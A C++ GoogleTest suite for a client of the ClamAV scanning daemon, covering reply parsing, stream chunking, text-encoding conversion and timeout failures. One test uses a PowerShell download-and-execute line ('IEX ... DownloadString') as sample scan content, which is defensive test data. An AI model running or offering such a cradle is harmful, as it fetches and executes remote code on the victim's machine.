#include "service/engine/clamd_client.h"

#include "testkit/stand_in_clamd.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

namespace {

using Bytes = std::vector<BYTE>;
using Behaviour = StandInClamd::Behaviour;

struct ReplyCase {
  const char* reply;
  ClamdOutcome outcome;
  const char* text;  // the name, or a part of the reason
};

TEST(ClamdReplyTest, ParsesEveryKindOfReply) {
  const ReplyCase cases[] = {
      {"stream: OK", ClamdOutcome::Clean, ""},
      {"stream: OK\n", ClamdOutcome::Clean, ""},
      {"stream: Kestrov.Test.Marker.UNOFFICIAL FOUND", ClamdOutcome::Found,
       "Kestrov.Test.Marker.UNOFFICIAL"},
      {"stream: YARA.Kestrov_PS_Downloader.UNOFFICIAL FOUND", ClamdOutcome::Found,
       "YARA.Kestrov_PS_Downloader.UNOFFICIAL"},
      {"INSTREAM size limit exceeded. ERROR", ClamdOutcome::Failed,
       "clamd replied: INSTREAM size limit exceeded. ERROR"},
      {"stream: Can't allocate memory ERROR", ClamdOutcome::Failed,
       "clamd replied: stream: Can't allocate memory ERROR"},
      {"stream: FOUND", ClamdOutcome::Failed, "unexpected reply from clamd: stream: FOUND"},
      {"PONG", ClamdOutcome::Failed, "unexpected reply from clamd: PONG"},
      {"", ClamdOutcome::Failed, "unexpected reply from clamd: "},
      {"stream: OK but more", ClamdOutcome::Failed, "unexpected reply"},
      {"stream: Bad\x01Name FOUND", ClamdOutcome::Found, "Bad?Name"},
  };
  for (const ReplyCase& c : cases) {
    const ClamdResult result = ParseClamdReply(c.reply);
    EXPECT_EQ(result.outcome, c.outcome) << c.reply;
    if (c.outcome == ClamdOutcome::Failed) {
      EXPECT_NE(result.text.find(c.text), std::string::npos) << c.reply << " -> " << result.text;
    } else {
      EXPECT_EQ(result.text, c.text) << c.reply;
    }
  }
}

Bytes Pattern(size_t count) {
  Bytes bytes(count);
  for (size_t i = 0; i < count; ++i) bytes[i] = static_cast<BYTE>((i * 31 + (i >> 12)) & 0xFF);
  return bytes;
}

Bytes Utf16(const std::string& ascii) {
  Bytes bytes;
  for (const char c : ascii) {
    bytes.push_back(static_cast<BYTE>(c));
    bytes.push_back(0);
  }
  return bytes;
}

class ClamdClientTest : public testing::Test {
 protected:
  void SetUp() override { ASSERT_TRUE(clamd_.Start()); }

  // One whole exchange: `content` fed in pieces of `piece` bytes (0: one
  // piece), with `timeoutMs` from Begin. Records how long it took.
  ClamdResult Scan(const ClamdAddress& address, const Bytes& content, size_t piece,
                   DWORD timeoutMs = 3000, ClamdTextMode mode = ClamdTextMode::Utf8) {
    const ULONGLONG start = GetTickCount64();
    ClamdScan scan;
    scan.Begin(address, start + timeoutMs, mode, content.size());
    if (piece == 0) piece = content.size();
    for (size_t at = 0; at < content.size(); at += piece) {
      scan.Feed(content.data() + at, std::min(piece, content.size() - at));
    }
    const ClamdResult result = scan.Finish();
    elapsedMs_ = GetTickCount64() - start;
    return result;
  }

  StandInClamd clamd_;
  ULONGLONG elapsedMs_ = 0;
};

TEST_F(ClamdClientTest, SendsEachPieceAtOnceInChunksOfAtMost64KiB) {
  clamd_.Set(Behaviour::Reply, "stream: OK");
  const Bytes content = Pattern(300000);
  // A byte, a piece above the chunk limit, exactly the limit, and the rest.
  const size_t pieces[] = {1, 70000, ClamdChunkBytes, content.size() - 1 - 70000 - ClamdChunkBytes};
  // Raw: nothing is held back for the text rule, so each piece's chunks
  // show exactly.
  for (const ClamdTextMode mode : {ClamdTextMode::Raw, ClamdTextMode::Utf8}) {
    ClamdScan scan;
    scan.Begin(clamd_.address(), GetTickCount64() + 5000, mode, content.size());
    size_t at = 0;
    for (const size_t piece : pieces) {
      scan.Feed(content.data() + at, piece);
      at += piece;
    }
    scan.Feed(content.data(), 0);  // nothing: must not end the stream
    const ClamdResult result = scan.Finish();
    EXPECT_EQ(result.outcome, ClamdOutcome::Clean) << result.text;

    const StandInClamd::Stream stream = clamd_.LastStream();
    EXPECT_EQ(stream.command, "zINSTREAM");
    EXPECT_TRUE(stream.ended);
    EXPECT_TRUE(stream.data == content) << "binary content goes unchanged in either mode";
    ASSERT_FALSE(stream.chunks.empty());
    EXPECT_EQ(stream.chunks.back(), 0u) << "the end";
    for (size_t i = 0; i + 1 < stream.chunks.size(); ++i) {
      EXPECT_GT(stream.chunks[i], 0u) << "chunk " << i;
      EXPECT_LE(stream.chunks[i], ClamdChunkBytes) << "chunk " << i;
    }
    if (mode == ClamdTextMode::Raw) {
      const std::vector<size_t> expected = {1, 65536, 4464, 65536, 65536, 65536, 33391, 0};
      EXPECT_EQ(stream.chunks, expected);
    }
  }
}

TEST_F(ClamdClientTest, SendsUtf16TextAsUtf8UnlessRaw) {
  const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\r\n";
  const Bytes content = Utf16(script);
  clamd_.Set(Behaviour::Reply, "stream: OK");
  EXPECT_EQ(Scan(clamd_.address(), content, 5).outcome, ClamdOutcome::Clean);
  const StandInClamd::Stream text = clamd_.LastStream();
  EXPECT_EQ(std::string(text.data.begin(), text.data.end()), script);

  EXPECT_EQ(Scan(clamd_.address(), content, 5, 3000, ClamdTextMode::Raw).outcome,
            ClamdOutcome::Clean);
  EXPECT_TRUE(clamd_.LastStream().data == content);
}

TEST_F(ClamdClientTest, ReportsTheSignatureFound) {
  clamd_.Set(Behaviour::Reply, "stream: Kestrov.Test.Marker.UNOFFICIAL FOUND");
  const ClamdResult result = Scan(clamd_.address(), Pattern(1000), 100);
  EXPECT_EQ(result.outcome, ClamdOutcome::Found);
  EXPECT_EQ(result.text, "Kestrov.Test.Marker.UNOFFICIAL");
}

struct FailureCase {
  const char* name;
  Behaviour behaviour;
  std::string reply;
  size_t contentBytes;
  const char* reason;  // a part of the reason
  bool usesTheWholeTime;  // the failure comes only at the deadline
};

void PrintTo(const FailureCase& c, std::ostream* out) { *out << c.name; }

class ClamdClientFailureTest : public ClamdClientTest,
                               public testing::WithParamInterface<FailureCase> {};

constexpr DWORD FailureTimeoutMs = 600;
// How far past its deadline a failing scan may end: the waits' own
// granularity and a busy machine.
constexpr ULONGLONG SlackMs = 500;

TEST_P(ClamdClientFailureTest, FailsWithinItsTimeAndSaysWhy) {
  const FailureCase& c = GetParam();
  clamd_.Set(c.behaviour, c.reply);
  const ClamdResult result = Scan(clamd_.address(), Pattern(c.contentBytes), 64 * 1024,
                                  FailureTimeoutMs);
  EXPECT_EQ(result.outcome, ClamdOutcome::Failed);
  EXPECT_NE(result.text.find(c.reason), std::string::npos) << result.text;
  EXPECT_LE(elapsedMs_, FailureTimeoutMs + SlackMs);
  if (c.usesTheWholeTime) {
    // GetTickCount64 moves in steps of up to about 16 ms.
    EXPECT_GE(elapsedMs_ + 32, FailureTimeoutMs) << "it waited for its deadline";
  }
  EXPECT_EQ(clamd_.accepted(), 1);
}

INSTANTIATE_TEST_SUITE_P(
    Cases, ClamdClientFailureTest,
    testing::Values(
        FailureCase{"ClosesAtOnce", Behaviour::CloseAtOnce, "", 1000, "closed the connection",
                    false},
        FailureCase{"ClosesDuringTheStream", Behaviour::CloseEarly, "", 4 << 20,
                    "closed the connection", false},
        FailureCase{"ErrorReplyDuringTheStream", Behaviour::ReplyEarly,
                    "INSTREAM size limit exceeded. ERROR", 4 << 20,
                    "clamd replied: INSTREAM size limit exceeded. ERROR", false},
        FailureCase{"ErrorReply", Behaviour::Reply, "stream: Can't allocate memory ERROR", 1000,
                    "clamd replied: stream: Can't allocate memory ERROR", false},
        FailureCase{"UnexpectedReply", Behaviour::Reply, "PONG", 1000,
                    "unexpected reply from clamd: PONG", false},
        FailureCase{"OverlongReply", Behaviour::Reply, std::string(5000, 'x'), 1000,
                    "longer than 4096 bytes", false},
        FailureCase{"NeverAnswers", Behaviour::Stall, "", 1000,
                    "timed out waiting for the reply", true},
        FailureCase{"NeverReads", Behaviour::StallUnread, "", 32 << 20,
                    "timed out sending the content", true}),
    [](const testing::TestParamInfo<FailureCase>& info) { return std::string(info.param.name); });

TEST_F(ClamdClientTest, RefusedConnectionFailsAtOnce) {
  ClamdAddress closed;
  std::string error;
  ASSERT_TRUE(ParseClamdAddress("127.0.0.1:" + std::to_string(ClosedLoopbackPort()), false,
                                &closed, &error));
  const ClamdResult result = Scan(closed, Pattern(1000), 0, FailureTimeoutMs);
  EXPECT_EQ(result.outcome, ClamdOutcome::Failed);
  EXPECT_NE(result.text.find("connection refused"), std::string::npos) << result.text;
  EXPECT_LE(elapsedMs_, FailureTimeoutMs + SlackMs);
}

TEST_F(ClamdClientTest, AFailedScanStaysFailedAndSendsNothingMore) {
  clamd_.Set(Behaviour::CloseAtOnce);
  ClamdScan scan;
  const Bytes content = Pattern(1 << 20);
  scan.Begin(clamd_.address(), GetTickCount64() + 3000, ClamdTextMode::Utf8, 8 * content.size());
  // Feeds until the closed connection shows; the scan then stays failed.
  for (int i = 0; i < 8 && !scan.failed(); ++i) scan.Feed(content.data(), content.size());
  ASSERT_TRUE(scan.failed());
  const ClamdResult first = scan.Finish();
  EXPECT_EQ(first.outcome, ClamdOutcome::Failed);
  EXPECT_NE(first.text.find("closed the connection"), std::string::npos) << first.text;

  // A refused scan swallows its Feeds and reports the refusal.
  ClamdAddress closed;
  std::string error;
  ASSERT_TRUE(ParseClamdAddress("127.0.0.1:" + std::to_string(ClosedLoopbackPort()), false,
                                &closed, &error));
  scan.Begin(closed, GetTickCount64() + 3000, ClamdTextMode::Utf8, content.size());
  EXPECT_TRUE(scan.failed());
  scan.Feed(content.data(), content.size());
  const ClamdResult refused = scan.Finish();
  EXPECT_NE(refused.text.find("connection refused"), std::string::npos) << refused.text;
  EXPECT_EQ(clamd_.accepted(), 1);
}

TEST_F(ClamdClientTest, AScanCanBeBegunAgainAfterItsEnd) {
  clamd_.Set(Behaviour::Reply, "stream: OK");
  ClamdScan scan;
  for (int round = 0; round < 3; ++round) {
    const Bytes content = Pattern(100 + static_cast<size_t>(round));
    scan.Begin(clamd_.address(), GetTickCount64() + 3000, ClamdTextMode::Utf8, content.size());
    scan.Feed(content.data(), content.size());
    EXPECT_EQ(scan.Finish().outcome, ClamdOutcome::Clean) << "round " << round;
    EXPECT_TRUE(clamd_.LastStream().data == content) << "round " << round;
  }
  EXPECT_EQ(clamd_.accepted(), 3);
}

}  // namespace
